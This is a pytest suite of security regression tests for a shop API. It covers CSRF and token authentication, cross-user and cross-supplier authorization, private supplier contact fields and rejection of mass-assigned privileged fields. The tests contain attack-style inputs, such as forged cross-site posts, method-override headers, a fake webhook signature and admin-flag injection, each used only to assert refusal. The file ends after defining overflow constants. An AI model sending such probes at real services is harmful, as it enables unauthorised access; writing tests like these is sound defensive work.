"""Security review tests: authentication and CSRF, object-level authorization (IDOR) across every domain, roles,
private data in public responses, mass assignment, and error paths.

Each test pins a guarantee that was verified (or a problem found in review and since fixed) and must not regress.
"""
from __future__ import annotations

import base64
import io
import json

import pytest
from sqlalchemy import func, select

from shop.accounts.models import User
from shop.accounts.services import create_token
from shop.addresses.models import Address
from shop.extensions import db
from shop.orders.models import Order
from shop.suppliers.models import Supplier, SupplierMember
from shop.suppliers.services import add_member
from tests.catalog.factories import make_product, product_body
from tests.security_helpers import API, account_state, catalog_state, raw
from tests.suppliers.factories import make_supplier, recommend, supplier_fields
from tests.support import token_client, PASSWORD, ApiClient, make_user, unique_email, assert_problem

ADDRESS = {"recipient": "王五", "mobile": "+8613900001111", "region_code": "320102", "detail": "玄武大道 1 号"}
SHIP = {"carrier": "顺丰速运", "tracking_number": "SF1234567890"}
SUPPLIER_PHONE = "+8613812345678"  # supplier_fields()' contact_phone: private to members and admins


def api_as(app, user) -> ApiClient:
    return token_client(user)


def address_count() -> int:
    db.session.expire_all()
    value = db.session.scalar(select(func.count()).select_from(Address))
    db.session.commit()
    return value


def cookie_client(app, user) -> ApiClient:
    client = ApiClient(app.test_client())
    client.login_as(user)
    return client


# =====================================================================================================================
# Authentication and CSRF (shop/accounts/auth.py: load_user, load_user_from_request, check_csrf)
# =====================================================================================================================

NON_BEARER_AUTHORIZATION = [
    "Basic dXNlcjpwYXNzd29yZA==",
    "Digest username=\"x\"",
    "Token shp_abc",
    "Negotiate YIIB",
    "Bearer",  # no credential after the scheme
    "Bearer    ",
    "",  # present but empty
]


@pytest.mark.parametrize("authorization", NON_BEARER_AUTHORIZATION)
def test_non_bearer_authorization_with_session_cookie_and_no_csrf_writes_nothing(app, authorization):
    """check_csrf skips any request carrying an Authorization header. That is safe only because load_user then
    refuses the session cookie: the request is anonymous, so it is a 401 and nothing is written."""
    user = make_user()
    client = cookie_client(app, user)
    before = account_state()

    response = raw(client, "POST", f"{API}/addresses", json_body=ADDRESS, headers={"Authorization": authorization})
    assert_problem(response, 401)
    response = raw(client, "PATCH", f"{API}/auth/me", json_body={"display_name": "pwned"},
                   headers={"Authorization": authorization})
    assert_problem(response, 401)
    response = raw(client, "POST", f"{API}/auth/tokens", json_body={"name": "pwned"},
                   headers={"Authorization": authorization})
    assert_problem(response, 401)
    response = raw(client, "POST", f"{API}/auth/logout", headers={"Authorization": authorization})
    assert_problem(response, 401)
    assert account_state() == before

    # The header makes the cookie count for nothing, reads included.
    assert_problem(raw(client, "GET", f"{API}/auth/me", headers={"Authorization": authorization}), 401)
    # And the session is still intact (the logout above did not happen).
    assert client.get(f"{API}/auth/me").json["user"]["id"] == user.id


def test_non_bearer_authorization_with_a_valid_csrf_header_still_does_not_use_the_cookie(app):
    user = make_user()
    client = cookie_client(app, user)
    response = raw(client, "POST", f"{API}/addresses", json_body=ADDRESS,
                   headers={"Authorization": "Basic dXNlcjpwYXNz", "X-CSRF-Token": client.csrf})
    assert_problem(response, 401)
    assert address_count() == 0


def test_the_same_cookie_write_with_the_csrf_header_works(app):
    """Control for the tests above: the cookie and CSRF token are good."""
    client = cookie_client(app, make_user())
    assert client.post(f"{API}/addresses", json=ADDRESS).status_code == 201
    assert address_count() == 1


@pytest.mark.parametrize("method,path,body", [
    ("POST", "/addresses", ADDRESS),
    ("PATCH", "/auth/me", {"display_name": "pwned"}),
    ("POST", "/auth/tokens", {"name": "pwned"}),
    ("DELETE", "/cart", None),
    ("POST", "/auth/logout", None),
    ("POST", "/suppliers", None),  # body irrelevant: CSRF answers before validation
    ("PUT", "/suppliers/1/shipping-rule", None),
    ("POST", "/nowhere-at-all", None),
])
def test_cookie_write_without_or_with_wrong_csrf_is_403_before_anything_else(app, method, path, body):
    user = make_user()
    client = cookie_client(app, user)
    other = cookie_client(app, make_user())
    before = account_state()
    for headers in ({}, {"X-CSRF-Token": ""}, {"X-CSRF-Token": other.csrf}, {"X-CSRF-Token": client.csrf + "x"}):
        assert_problem(raw(client, method, f"{API}{path}", json_body=body, headers=headers), 403, "csrf_failed")
    assert account_state() == before
    assert client.get(f"{API}/auth/me").status_code == 200


def test_form_like_cross_site_post_with_cookie_is_refused(app):
    """What a cross-site <form> can send: text/plain or urlencoded body, cookie attached, no custom header."""
    client = cookie_client(app, make_user())
    for content_type in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"):
        response = raw(client, "POST", f"{API}/cart", data=json.dumps({}), content_type=content_type)
        assert response.status_code in (403, 405)
        response = raw(client, "POST", f"{API}/auth/logout", data="x=1", content_type=content_type)
        assert_problem(response, 403, "csrf_failed")
    assert client.get(f"{API}/auth/me").status_code == 200


def test_login_csrf_with_a_text_plain_json_body_signs_nobody_in(app):
    """A cross-site form can post text/plain that looks like JSON; the JSON parser ignores non-JSON bodies."""
    attacker = make_user()
    victim_browser = ApiClient(app.test_client())
    body = json.dumps({"email": attacker.email, "password": PASSWORD})
    response = raw(victim_browser, "POST", f"{API}/auth/login", data=body, content_type="text/plain")
    assert_problem(response, 422)
    assert_problem(victim_browser.get(f"{API}/auth/me"), 401)


def test_method_override_headers_do_not_turn_a_write_into_a_safe_request(app):
    client = cookie_client(app, make_user())
    for header in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"):
        response = raw(client, "POST", f"{API}/auth/logout", headers={header: "GET"})
        assert_problem(response, 403, "csrf_failed")
    assert client.get(f"{API}/auth/me").status_code == 200


def test_an_invalid_bearer_token_never_falls_back_to_the_cookie(app):
    client = cookie_client(app, make_user())
    response = raw(client, "POST", f"{API}/addresses", json_body=ADDRESS,
                   headers={"Authorization": "Bearer shp_not-a-token", "X-CSRF-Token": client.csrf})
    assert_problem(response, 401, "invalid_token")
    assert address_count() == 0


def test_a_revoked_token_with_a_valid_cookie_is_401(app):
    user = make_user()
    client = cookie_client(app, user)
    token, plain = create_token(user=user, name="x")
    assert client.delete(f"{API}/auth/tokens/{token.id}").status_code == 200
    response = raw(client, "POST", f"{API}/addresses", json_body=ADDRESS, headers={"Authorization": f"Bearer {plain}"})
    assert_problem(response, 401, "invalid_token")
    assert address_count() == 0


def test_the_webhook_is_csrf_exempt_but_still_needs_its_signature_even_with_a_cookie(app):
    client = cookie_client(app, make_user())
    body = {"id": "evt_forged", "type": "payment_intent.succeeded", "data": {"object": {"object": "payment_intent"}}}
    assert_problem(raw(client, "POST", f"{API}/payments/stripe/webhook", json_body=body), 400, "invalid_signature")
    response = raw(client, "POST", f"{API}/payments/stripe/webhook", json_body=body,
                   headers={"Stripe-Signature": "t=1,v1=deadbeef"})
    assert_problem(response, 400, "invalid_signature")


def test_a_deactivated_account_loses_its_session_and_its_tokens(app):
    user = make_user()
    client = cookie_client(app, user)
    token_client = api_as(app, user)
    user.is_active_account = False
    db.session.commit()
    assert_problem(client.get(f"{API}/auth/me"), 401)
    assert_problem(token_client.get(f"{API}/auth/me"), 401, "invalid_token")


def test_a_session_cookie_is_refused_after_logout_even_with_its_csrf_token(app):
    user = make_user()
    client = cookie_client(app, user)
    cookie = client.raw.get_cookie(app.config["SESSION_COOKIE_NAME"]).value
    csrf = client.csrf
    assert client.post(f"{API}/auth/logout").status_code == 204
    replay = ApiClient(app.test_client())
    replay.raw.set_cookie(app.config["SESSION_COOKIE_NAME"], cookie)
    replay.csrf = csrf
    assert_problem(replay.post(f"{API}/addresses", json=ADDRESS), 401)
    assert address_count() == 0


# =====================================================================================================================
# Accounts, addresses, cart, tokens, notifications: one user's objects are 404 to another
# =====================================================================================================================


def test_another_users_address_is_404_for_read_update_delete_cart_quote_and_checkout(app):
    alice, mallory = make_user(), make_user()
    alice_api, mallory_api = api_as(app, alice), api_as(app, mallory)
    address_id = alice_api.post(f"{API}/addresses", json=ADDRESS).json["id"]
    before = account_state()

    assert_problem(mallory_api.get(f"{API}/addresses/{address_id}"), 404)
    assert_problem(mallory_api.patch(f"{API}/addresses/{address_id}", json={"detail": "pwned"}), 404)
    assert_problem(mallory_api.patch(f"{API}/addresses/{address_id}", json={"is_default": True}), 404)
    assert_problem(mallory_api.delete(f"{API}/addresses/{address_id}"), 404)
    assert_problem(mallory_api.get(f"{API}/cart?address_id={address_id}"), 404)
    assert mallory_api.get(f"{API}/addresses").json == []
    assert account_state() == before


def test_checkout_to_another_users_address_is_404_and_places_nothing(app, stripe_server):
    from tests.orders.factories import make_world

    world = make_world()
    mallory = make_user()
    mallory_api = api_as(app, mallory)
    assert mallory_api.post(f"{API}/cart/lines", json={"sku_id": world.sku_a, "quantity": 1}).status_code == 201
    response = mallory_api.post(f"{API}/checkout", json={"address_id": world.address_id,
                                                         "items": [{"sku_id": world.sku_a, "quantity": 1}]})
    assert_problem(response, 404)
    response = mallory_api.post(f"{API}/checkout", json={"address_id": world.address_id})
    assert_problem(response, 404)
    assert db.session.scalar(select(func.count()).select_from(Order)) == 0


def test_another_users_cart_line_is_404(app):
    owner = make_user()
    supplier = make_supplier(owner)
    sku_id = sku_of(make_product(supplier).id)
    alice, mallory = api_as(app, make_user()), api_as(app, make_user())
    cart = alice.post(f"{API}/cart/lines", json={"sku_id": sku_id, "quantity": 2}).json
    line_id = cart["groups"][0]["lines"][0]["line_id"]
    before = account_state()

    assert_problem(mallory.patch(f"{API}/cart/lines/{line_id}", json={"quantity": 1}), 404)
    assert_problem(mallory.delete(f"{API}/cart/lines/{line_id}"), 404)
    assert mallory.delete(f"{API}/cart").status_code == 200  # clears Mallory's own (empty) cart only
    assert mallory.get(f"{API}/cart").json["groups"] == []
    assert account_state() == before
    assert alice.get(f"{API}/cart").json["groups"][0]["lines"][0]["quantity"] == 2


def test_revoking_another_users_token_is_404_and_the_token_keeps_working(app):
    alice = make_user()
    token, plain = create_token(user=alice, name="erp")
    mallory = api_as(app, make_user())
    assert_problem(mallory.delete(f"{API}/auth/tokens/{token.id}"), 404)
    assert token.id not in [t["id"] for t in mallory.get(f"{API}/auth/tokens").json]
    alice_api = ApiClient(app.test_client())
    alice_api.token = plain
    assert alice_api.get(f"{API}/auth/me").json["user"]["id"] == alice.id


def test_notifications_list_only_the_callers_messages(app):
    from shop.notifications.services import enqueue

    alice, mallory = make_user(), make_user()
    enqueue(email=alice.email, user_id=alice.id, template="t", subject="secret", body="alice's order")
    db.session.commit()
    assert api_as(app, mallory).get(f"{API}/notifications").json["items"] == []
    assert [m["body"] for m in api_as(app, alice).get(f"{API}/notifications").json["items"]] == ["alice's order"]
    assert_problem(ApiClient(app.test_client()).get(f"{API}/notifications"), 401)


# =====================================================================================================================
# Suppliers: members, roles, private fields
# =====================================================================================================================


@pytest.fixture
def two_suppliers(app):
    owner_a, owner_b = make_user(), make_user()
    a = make_supplier(owner_a, name="巫山脆李合作社", district_code="500237")
    b = make_supplier(owner_b, name="奉节脐橙合作社", district_code="500236")
    staff_a = make_user()
    add_member(user=owner_a, supplier_id=a.id, email=staff_a.email, role="staff")
    product_a = make_product(a)
    draft_a = make_product(a, status="draft", name="未上架")
    return {"owner_a": owner_a, "owner_b": owner_b, "staff_a": staff_a, "a": a.id, "b": b.id,
            "product_a": product_a.id, "draft_a": draft_a.id}


def sku_of(product_id: int) -> int:
    from shop.catalog.models import Sku

    value = db.session.scalar(select(Sku.id).where(Sku.product_id == product_id).order_by(Sku.id))
    db.session.commit()
    return value


def test_supplier_contact_details_are_private_to_members_and_admins(app, two_suppliers):
    a = two_suppliers["a"]
    public_clients = [ApiClient(app.test_client()), api_as(app, make_user()), api_as(app, two_suppliers["owner_b"])]
    for client in public_clients:
        for path in (f"/suppliers/{a}", "/suppliers", f"/products/{two_suppliers['product_a']}",
                     f"/skus/{sku_of(two_suppliers['product_a'])}", "/products", f"/products?supplier_id={a}"):
            response = client.get(f"{API}{path}")
            assert response.status_code == 200, (path, response.json)
            text = response.get_data(as_text=True)
            assert SUPPLIER_PHONE not in text and "contact_phone" not in text and "contact_name" not in text, path
            assert "status_reason" not in text, path
    for client in (api_as(app, two_suppliers["owner_a"]), api_as(app, two_suppliers["staff_a"]),
                   api_as(app, make_user(admin=True))):
        assert client.get(f"{API}/suppliers/{a}").json["contact_phone"] == SUPPLIER_PHONE


def test_a_pending_supplier_does_not_exist_for_the_public(app):
    owner = make_user()
    pending = make_supplier(owner, status="pending")
    for client in (ApiClient(app.test_client()), api_as(app, make_user())):
        assert_problem(client.get(f"{API}/suppliers/{pending.id}"), 404)
        assert pending.id not in [s["id"] for s in client.get(f"{API}/suppliers").json["items"]]
    assert_problem(api_as(app, make_user()).get(f"{API}/suppliers?status=pending"), 403, "admin_only")
    assert_problem(ApiClient(app.test_client()).get(f"{API}/suppliers?status=pending"), 401)


def test_member_lists_events_and_shipping_rules_are_hidden_from_non_members(app, two_suppliers):
    a = two_suppliers["a"]
    for client in (api_as(app, make_user()), api_as(app, two_suppliers["owner_b"])):
        for path in (f"/suppliers/{a}/members", f"/suppliers/{a}/events", f"/suppliers/{a}/shipping-rule",
                     f"/suppliers/{a}/products", f"/suppliers/{a}/catalog/export"):
            assert_problem(client.get(f"{API}{path}"), 404)
    anonymous = ApiClient(app.test_client())
    for path in (f"/suppliers/{a}/members", f"/suppliers/{a}/events", f"/suppliers/{a}/shipping-rule"):
        assert_problem(anonymous.get(f"{API}{path}"), 401)
    # Members do see who their co-members are.
    emails = {m["email"] for m in api_as(app, two_suppliers["staff_a"]).get(f"{API}/suppliers/{a}/members")
              .json["items"]}
    assert emails == {two_suppliers["owner_a"].email, two_suppliers["staff_a"].email}


def test_non_members_and_staff_cannot_change_a_supplier_or_its_members(app, two_suppliers):
    a, b = two_suppliers["a"], two_suppliers["b"]
    rival, staff = api_as(app, two_suppliers["owner_b"]), api_as(app, two_suppliers["staff_a"])
    staff_member = db.session.scalar(select(SupplierMember.id).where(SupplierMember.user_id ==
                                                                      two_suppliers["staff_a"].id))
    owner_b_member = db.session.scalar(select(SupplierMember.id).where(SupplierMember.supplier_id == b))
    db.session.commit()
    before = catalog_state()

    assert_problem(rival.patch(f"{API}/suppliers/{a}", json={"contact_phone": "13900000000"}), 404)
    assert_problem(rival.post(f"{API}/suppliers/{a}/members", json={"email": two_suppliers["owner_b"].email,
                                                                    "role": "owner"}), 404)
    assert_problem(rival.delete(f"{API}/suppliers/{a}/members/{staff_member}"), 404)
    assert_problem(rival.put(f"{API}/suppliers/{a}/shipping-rule",
                             json={"base_fee_fen": 1, "base_weight_g": 1, "per_extra_kg_fen": 1}), 404)
    # A member id of another supplier, through one's own supplier: still 404.
    assert_problem(rival.delete(f"{API}/suppliers/{b}/members/{staff_member}"), 404)
    owner_a = api_as(app, two_suppliers["owner_a"])
    assert_problem(owner_a.delete(f"{API}/suppliers/{a}/members/{owner_b_member}"), 404)

    # Staff: owner-only verbs are 403 role_required (naming the owner role).
    assert_problem(staff.patch(f"{API}/suppliers/{a}", json={"name": "改名"}), 403, "role_required")
    assert_problem(staff.post(f"{API}/suppliers/{a}/members", json={"email": unique_email(), "role": "owner"}), 403,
                   "role_required")
    owner_a_member = db.session.scalar(select(SupplierMember.id).where(
        SupplierMember.user_id == two_suppliers["owner_a"].id, SupplierMember.supplier_id == a))
    db.session.commit()
    assert_problem(staff.delete(f"{API}/suppliers/{a}/members/{owner_a_member}"), 403, "role_required")
    assert catalog_state() == before
    # Leaving is every member's own right.
    assert staff.delete(f"{API}/suppliers/{a}/members/{staff_member}").status_code == 204


def test_a_member_added_by_email_is_told_can_leave_and_adding_is_rate_limited(app):
    """The issue defines members as existing users an owner adds by email, so adding cannot wait for consent;
    instead nobody is added silently (an outbox message tells them), anyone added may leave at once, and the
    add endpoint is rate-limited per account so it is no oracle for which emails have accounts."""
    from shop.notifications.models import OutboxMessage

    victim = make_user(display_name="张三")
    snoop = make_user()
    pending = make_supplier(snoop, status="pending")
    client = api_as(app, snoop)
    response = client.post(f"{API}/suppliers/{pending.id}/members", json={"email": victim.email, "role": "owner"})
    assert response.status_code == 201
    db.session.expire_all()
    told = db.session.scalar(select(func.count()).select_from(OutboxMessage).where(
        OutboxMessage.recipient_user_id == victim.id, OutboxMessage.template == "supplier_membership"))
    member_id = response.json["id"]
    db.session.commit()
    assert told == 1
    victim_client = api_as(app, victim)
    assert victim_client.delete(f"{API}/suppliers/{pending.id}/members/{member_id}").status_code == 204
    assert victim_client.get(f"{API}/suppliers?mine=true").json["items"] == []

    limit = int(app.config["MEMBER_ADD_RATE_LIMIT"].split()[0])
    answers = [client.post(f"{API}/suppliers/{pending.id}/members", json={"email": unique_email()}).status_code
               for _ in range(limit)]
    assert 429 not in answers[: limit - 1]
    assert_problem(client.post(f"{API}/suppliers/{pending.id}/members", json={"email": unique_email()}), 429,
                   "rate_limited")


def test_only_platform_admins_review_suppliers(app):
    owner = make_user()
    pending = make_supplier(owner, status="pending")
    before = catalog_state()
    for client in (api_as(app, owner), api_as(app, make_user())):
        assert_problem(client.post(f"{API}/suppliers/{pending.id}/review", json={"action": "approve"}), 403,
                       "admin_only")
    assert_problem(ApiClient(app.test_client()).post(f"{API}/suppliers/{pending.id}/review",
                                                     json={"action": "approve"}), 401)
    assert catalog_state() == before
    admin = api_as(app, make_user(admin=True))
    assert_problem(admin.post(f"{API}/suppliers/{pending.id}/review", json={"action": "approve"}), 409,
                   "illegal_supplier_transition")  # its county recommends first
    recommend(pending.id)
    assert admin.post(f"{API}/suppliers/{pending.id}/review", json={"action": "approve"}).json["status"] == "approved"


def test_only_platform_admins_write_support_pairs(app):
    body = {"supporter_code": "320000", "recipient_code": "500237", "kind": "three_gorges_counterpart"}
    assert_problem(api_as(app, make_user()).post(f"{API}/support-pairs", json=body), 403, "admin_only")
    assert_problem(ApiClient(app.test_client()).post(f"{API}/support-pairs", json=body), 401)
    from shop.regions.models import SupportPair

    pair_id = db.session.scalar(select(func.min(SupportPair.id)))
    db.session.commit()
    if pair_id is not None:
        assert_problem(api_as(app, make_user()).patch(f"{API}/support-pairs/{pair_id}", json={"verified": False}),
                       403, "admin_only")


# =====================================================================================================================
# Catalog: another supplier's products, SKUs, stock and imports answer 404
# =====================================================================================================================


def test_another_suppliers_products_skus_and_stock_are_404_to_every_write(app, two_suppliers):
    product_id = two_suppliers["product_a"]
    sku_id = sku_of(product_id)
    before = catalog_state()
    for client in (api_as(app, two_suppliers["owner_b"]), api_as(app, make_user())):
        assert_problem(client.patch(f"{API}/products/{product_id}", json={"name": "pwned"}), 404)
        assert_problem(client.post(f"{API}/products/{product_id}/archive"), 404)
        assert_problem(client.post(f"{API}/products/{two_suppliers['draft_a']}/publish"), 404)
        assert_problem(client.post(f"{API}/products/{product_id}/skus",
                                   json={"spec": "x", "weight_g": 1, "price_fen": 1}), 404)
        assert_problem(client.patch(f"{API}/skus/{sku_id}", json={"price_fen": 1}), 404)
        assert_problem(client.post(f"{API}/skus/{sku_id}/stock-adjustments", json={"delta": -100,
                                                                                   "reason": "damage"}), 404)
        assert_problem(client.get(f"{API}/skus/{sku_id}/stock-movements"), 404)
        # Creating a product under someone else's supplier.
        assert_problem(client.post(f"{API}/products", json=product_body(two_suppliers["a"])), 404)
        # Importing into someone else's catalog.
        files = {"file": (io.BytesIO(b"product_ref,name\n1,x\n"), "c.csv")}
        response = client.raw.post(f"{API}/suppliers/{two_suppliers['a']}/catalog/import?dry_run=false",
                                   data=files, headers=client._headers(None), content_type="multipart/form-data")
        assert_problem(response, 404)
    assert catalog_state() == before


def test_draft_products_and_their_skus_are_404_to_the_public_and_to_other_suppliers(app, two_suppliers):
    draft = two_suppliers["draft_a"]
    sku_id = sku_of(draft)
    for client in (ApiClient(app.test_client()), api_as(app, make_user()), api_as(app, two_suppliers["owner_b"])):
        assert_problem(client.get(f"{API}/products/{draft}"), 404)
        assert_problem(client.get(f"{API}/skus/{sku_id}"), 404)
        assert draft not in [p["id"] for p in client.get(f"{API}/products?supplier_id={two_suppliers['a']}")
                             .json["items"]]
    # ...and cannot be put in a cart.
    buyer = api_as(app, make_user())
    assert_problem(buyer.post(f"{API}/cart/lines", json={"sku_id": sku_id, "quantity": 1}), 404)
    # Members see their own draft.
    assert api_as(app, two_suppliers["staff_a"]).get(f"{API}/products/{draft}").status_code == 200


def test_products_of_a_suspended_supplier_leave_the_public_catalog(app, two_suppliers):
    supplier = db.session.get(Supplier, two_suppliers["a"])
    supplier.status = "suspended"
    db.session.commit()
    public = ApiClient(app.test_client())
    assert_problem(public.get(f"{API}/products/{two_suppliers['product_a']}"), 404)
    assert_problem(public.get(f"{API}/suppliers/{two_suppliers['a']}"), 404)
    assert public.get(f"{API}/products").json["items"] == []


# =====================================================================================================================
# Mass assignment: fields a client must not set are rejected (422) and nothing changes
# =====================================================================================================================


@pytest.mark.parametrize("extra", [{"is_platform_admin": True}, {"session_version": 7}, {"is_active_account": False},
                                   {"id": 1}])
def test_register_rejects_privileged_fields(app, extra):
    body = {"email": unique_email(), "password": PASSWORD, "display_name": "x", **extra}
    assert_problem(ApiClient(app.test_client()).post(f"{API}/auth/register", json=body), 422)
    assert db.session.scalar(select(func.count()).select_from(User)) == 0


@pytest.mark.parametrize("extra", [{"is_platform_admin": True}, {"email": "new@example.test"},
                                   {"session_version": 9}, {"password_hash": "x"}])
def test_profile_update_rejects_privileged_fields(app, extra):
    user = make_user()
    before = account_state()
    assert_problem(api_as(app, user).patch(f"{API}/auth/me", json={"display_name": "y", **extra}), 422)
    assert account_state()["users"] == before["users"]


@pytest.mark.parametrize("extra", [{"status": "approved"}, {"is_demo": True}, {"reviewed_at": "2026-01-01T00:00:00"},
                                   {"status_reason": "ok"}, {"id": 99}])
def test_supplier_registration_rejects_status_and_demo_flags(app, extra):
    client = api_as(app, make_user())
    assert_problem(client.post(f"{API}/suppliers", json={**supplier_fields(), **extra}), 422)
    assert db.session.scalar(select(func.count()).select_from(Supplier)) == 0


@pytest.mark.parametrize("extra", [{"status": "approved"}, {"is_demo": True}, {"id": 99}])
def test_supplier_update_rejects_status_and_demo_flags(app, extra):
    owner = make_user()
    supplier = make_supplier(owner, status="pending")
    before = catalog_state()
    assert_problem(api_as(app, owner).patch(f"{API}/suppliers/{supplier.id}", json={"name": "x", **extra}), 422)
    assert catalog_state() == before


@pytest.mark.parametrize("extra", [{"status": "active"}, {"min_price_fen": 1}, {"sales_count": 1000},
                                   {"published_at": "2026-01-01T00:00:00"}, {"search_text": "x"}])
def test_product_create_rejects_derived_and_status_fields(app, two_suppliers, extra):
    before = catalog_state()
    client = api_as(app, two_suppliers["owner_a"])
    assert_problem(client.post(f"{API}/products", json={**product_body(two_suppliers["a"]), **extra}), 422)
    assert catalog_state() == before


@pytest.mark.parametrize("extra", [{"supplier_id": None}, {"status": "active"}, {"min_price_fen": 1},
                                   {"sales_count": 99}, {"external_ref": "x"}])
def test_product_update_rejects_owner_status_and_derived_fields(app, two_suppliers, extra):
    extra = {"supplier_id": two_suppliers["b"]} if "supplier_id" in extra else extra
    before = catalog_state()
    client = api_as(app, two_suppliers["owner_a"])
    assert_problem(client.patch(f"{API}/products/{two_suppliers['draft_a']}", json={"name": "x", **extra}), 422)
    assert catalog_state() == before


@pytest.mark.parametrize("extra", [{"stock": 1_000_000}, {"product_id": 1}, {"id": 5}])
def test_sku_update_rejects_stock_and_product(app, two_suppliers, extra):
    before = catalog_state()
    client = api_as(app, two_suppliers["owner_a"])
    assert_problem(client.patch(f"{API}/skus/{sku_of(two_suppliers['product_a'])}", json={"price_fen": 1, **extra}),
                   422)
    assert catalog_state() == before


@pytest.mark.parametrize("path,body", [
    ("/addresses", {**ADDRESS, "user_id": 1}),
    ("/cart/lines", {"sku_id": 1, "quantity": 1, "unit_price_fen": 1}),
    ("/cart/lines", {"sku_id": 1, "quantity": 1, "user_id": 1}),
    ("/checkout", {"address_id": 1, "total_fen": 1}),
    ("/checkout", {"address_id": 1, "status": "paid"}),
    ("/checkout", {"address_id": 1, "paid_fen": 100}),
    ("/checkout", {"address_id": 1, "buyer_id": 1}),
    ("/checkout", {"address_id": 1, "channel": "procurement"}),
    ("/checkout", {"address_id": 1, "items": [{"sku_id": 1, "quantity": 1, "price_fen": 1}]}),
    ("/auth/tokens", {"name": "x", "user_id": 1}),
])
def test_buyer_side_bodies_reject_fields_the_server_owns(app, path, body):
    before = account_state()
    assert_problem(api_as(app, make_user()).post(f"{API}{path}", json=body), 422)
    after = account_state()
    assert after["addresses"] == before["addresses"] and after["cart"] == before["cart"]
    assert len(after["tokens"]) == len(before["tokens"]) + 1  # only the token api_as() made
    assert db.session.scalar(select(func.count()).select_from(Order)) == 0


# =====================================================================================================================
# Orders, fulfilments, refunds (localstripe)
# =====================================================================================================================


@pytest.fixture
def shop_world(app, stripe_server):
    from tests.orders.factories import make_world

    return make_world()


@pytest.fixture
def paid(app, shop_world):
    from tests.orders.factories import paid_order

    buyer = api_as(app, shop_world.buyer)
    return paid_order(shop_world, [(shop_world.sku_a, 1), (shop_world.sku_b, 2)], buyer)


def order_snapshot():
    from tests.orders.factories import state

    return state()


def test_another_users_order_is_404_on_every_buyer_endpoint(app, shop_world, paid):
    order_id = paid["id"]
    line_b = next(line["id"] for line in paid["lines"] if line["supplier_id"] == shop_world.supplier_b)
    strangers = [api_as(app, make_user()), api_as(app, shop_world.owner_a), api_as(app, shop_world.owner_b)]
    before = order_snapshot()
    for client in strangers:
        assert_problem(client.get(f"{API}/orders/{order_id}"), 404)
        assert_problem(client.get(f"{API}/orders/{order_id}/events"), 404)
        assert_problem(client.get(f"{API}/orders/{order_id}/refunds"), 404)
        assert_problem(client.post(f"{API}/orders/{order_id}/cancel", json={"reason": "x"}), 404)
        assert_problem(client.post(f"{API}/orders/{order_id}/confirm-receipt"), 404)
        assert_problem(client.post(f"{API}/orders/{order_id}/payment"), 404)
        assert_problem(client.post(f"{API}/orders/{order_id}/refunds", json={
            "kind": "other", "items": [{"order_line_id": line_b, "quantity": 1}], "reason": "x"}), 404)
        assert_problem(client.post(f"{API}/orders/{order_id}/operator-refunds",
                                   json={"amount_fen": 100, "reason": "x"}), 404)
        assert order_id not in [o["id"] for o in client.get(f"{API}/orders").json["items"]]
    assert order_snapshot() == before


def test_a_supplier_never_sees_another_suppliers_lines_or_fulfilment(app, shop_world, paid):
    fa = next(f["id"] for f in paid["fulfillments"] if f["supplier_id"] == shop_world.supplier_a)
    owner_b = api_as(app, shop_world.owner_b)
    before = order_snapshot()
    assert_problem(owner_b.get(f"{API}/fulfillments/{fa}"), 404)
    assert_problem(owner_b.post(f"{API}/fulfillments/{fa}/ship", json=SHIP), 404)
    assert_problem(owner_b.post(f"{API}/fulfillments/{fa}/deliver"), 404)
    listing = owner_b.get(f"{API}/fulfillments?supplier_id={shop_world.supplier_a}").json
    assert listing["items"] == []
    text = owner_b.get(f"{API}/fulfillments").get_data(as_text=True)
    assert "巫山脆李" not in text
    assert order_snapshot() == before
    # The buyer cannot move a fulfilment of their own order either.
    buyer = api_as(app, shop_world.buyer)
    assert_problem(buyer.post(f"{API}/fulfillments/{fa}/ship", json=SHIP), 404)
    assert order_snapshot() == before


def test_a_refund_is_decided_only_by_its_supplier_or_an_admin(app, shop_world):
    from tests.orders.factories import delivered_order

    buyer = api_as(app, shop_world.buyer)
    order = delivered_order(shop_world, [(shop_world.sku_b, 2)], buyer)
    line_b = order["lines"][0]["id"]
    response = buyer.post(f"{API}/orders/{order['id']}/refunds", json={
        "kind": "no_reason_return", "items": [{"order_line_id": line_b, "quantity": 1}], "reason": "不想要了"})
    assert response.status_code == 201, response.json
    refund_id = response.json[0]["id"]
    before = order_snapshot()
    for client in (api_as(app, shop_world.owner_a), buyer, api_as(app, make_user())):
        assert_problem(client.post(f"{API}/refunds/{refund_id}/decision", json={"approve": True}), 404)
        assert refund_id not in [r["id"] for r in client.get(f"{API}/refunds").json["items"]]
    assert order_snapshot() == before
    assert api_as(app, shop_world.owner_b).get(f"{API}/refunds").json["items"][0]["id"] == refund_id


def test_refund_requests_name_only_lines_of_the_callers_own_order(app, shop_world):
    from tests.orders.factories import delivered_order

    buyer = api_as(app, shop_world.buyer)
    mine = delivered_order(shop_world, [(shop_world.sku_b, 1)], buyer)
    other_buyer = make_user()
    from tests.orders.factories import make_address

    address = make_address(other_buyer)
    other_api = api_as(app, other_buyer)
    from tests.orders.factories import pay, place, ship_and_deliver

    theirs = place(other_api, address.id, [(shop_world.sku_b, 2)])
    pay(theirs["id"])
    ship_and_deliver(shop_world, theirs)
    before = order_snapshot()
    # A line of someone else's order, named on my own order.
    response = buyer.post(f"{API}/orders/{mine['id']}/refunds", json={
        "kind": "other", "items": [{"order_line_id": theirs["lines"][0]["id"], "quantity": 1}], "reason": "x"})
    assert_problem(response, 422, "invalid_line")
    assert order_snapshot() == before


def test_the_buyer_cannot_decide_or_operator_refund_their_own_order(app, shop_world, paid):
    buyer = api_as(app, shop_world.buyer)
    before = order_snapshot()
    assert_problem(buyer.post(f"{API}/orders/{paid['id']}/operator-refunds", json={"amount_fen": 100,
                                                                                  "reason": "x"}), 404)
    assert order_snapshot() == before


def test_suppliers_do_not_see_unpaid_orders_or_the_buyers_address(app, shop_world):
    from tests.orders.factories import place

    buyer = api_as(app, shop_world.buyer)
    order = place(buyer, shop_world.address_id, [(shop_world.sku_a, 1)])
    fa = order["fulfillments"][0]["id"]
    owner_a = api_as(app, shop_world.owner_a)
    assert owner_a.get(f"{API}/fulfillments").json["items"] == []
    assert_problem(owner_a.get(f"{API}/fulfillments/{fa}"), 404)
    assert_problem(owner_a.post(f"{API}/fulfillments/{fa}/ship", json=SHIP), 404)


# =====================================================================================================================
# Error paths: bad input is a 4xx problem, never a 500, and changes nothing
# =====================================================================================================================

INT4_OVERFLOW = 2 ** 31  # PostgreSQL: "integer out of range" for an INTEGER column
HUGE = 10 ** 20  # beyond 64 bits: SQLite raises OverflowError


